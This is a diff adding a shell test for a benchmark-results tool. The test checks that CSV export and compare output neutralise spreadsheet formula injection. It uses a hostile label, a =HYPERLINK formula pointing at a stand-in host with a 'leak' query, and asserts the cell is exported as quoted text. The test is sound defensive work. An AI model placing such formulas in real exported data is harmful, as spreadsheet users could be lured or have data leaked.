@@ -71,6 +71,29 @@ assert isinstance(two, list) and [d["id"] for d in two] == [doc["id"], rows[-1][
 EOF
 pass "export json (one, several), csv, -o"
 
+# ---- CSV cells a spreadsheet would run: text with a leading ', numbers as numbers ----
+EVIL='=HYPERLINK("http://x.example/?leak","open")'
+"$TB" results --db "$WORK/evil.db" import --label "$EVIL" "$D/probe.json" >/dev/null
+"$TB" results --db "$WORK/evil.db" import --label other "$D/probe.json" >/dev/null
+"$TB" results --db "$WORK/evil.db" export "$EVIL" --format csv -o "$WORK/evil.csv"
+"$TB" compare --db "$WORK/evil.db" --format csv "$EVIL" other >"$WORK/evil-compare.csv"
+python3 - "$WORK/evil.csv" "$WORK/evil-compare.csv" "$EVIL" <<'EOF' || fail "CSV formula cells"
+import csv, sys
+evil = sys.argv[3]
+rows = list(csv.reader(open(sys.argv[1])))[1:]
+assert rows and all(r[1] == "'" + evil for r in rows), rows[:2]
+assert all(not r[6].startswith("'") and float(r[6]) == float(r[6]) for r in rows)
+cmp = list(csv.DictReader(open(sys.argv[2])))
+assert any(r["environment"].startswith("'" + evil) for r in cmp), [r["environment"] for r in cmp]
+for r in cmp:
+    for k, v in r.items():
+        assert not v or v[0] not in "=+@\t\r", (k, v)
+        assert not v.startswith("-") or float(v) < 0, (k, v)  # only numbers start with -
+EOF
+grep -qF "\"'=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"open\"\")\"" "$WORK/evil.csv" ||
+  fail "the label cell: $(sed -n 2p "$WORK/evil.csv")"
+pass "CSV: a label =HYPERLINK(...) is text in results export and compare --format csv"
+
 # ---- export, import into a second store: same run ----
 DB2=$WORK/two.db
 for id in "$TD_ID" "$BENCH_ID"; do
